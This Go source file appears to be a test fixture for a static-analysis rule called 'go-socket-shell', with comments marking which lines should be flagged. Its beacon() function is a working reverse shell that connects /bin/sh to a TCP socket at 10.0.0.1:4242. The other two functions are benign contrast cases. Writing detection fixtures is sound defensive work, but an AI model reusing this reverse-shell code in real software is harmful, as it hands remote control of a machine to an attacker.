package main

import (
	"bytes"
	"net"
	"os"
	"os/exec"
)

func beacon() {
	conn, _ := net.Dial("tcp", "10.0.0.1:4242")
	cmd := exec.Command("/bin/sh")
	// ruleid: go-socket-shell
	cmd.Stdin = conn
	// ruleid: go-socket-shell
	cmd.Stdout = conn
	cmd.Run()
}

func script() {
	conn, _ := net.Dial("tcp", "127.0.0.1:9000")
	defer conn.Close()
	cmd := exec.Command("bash", "-c", "make test")
	var out bytes.Buffer
	// ok: go-socket-shell
	cmd.Stdout = &out
	// ok: go-socket-shell
	cmd.Stderr = os.Stderr
	cmd.Run()
}

func proxy(conn net.Conn) {
	cmd := exec.Command("ssh", "-W", "host:22", "bastion")
	// ok: go-socket-shell
	cmd.Stdin = conn
	cmd.Run()
}
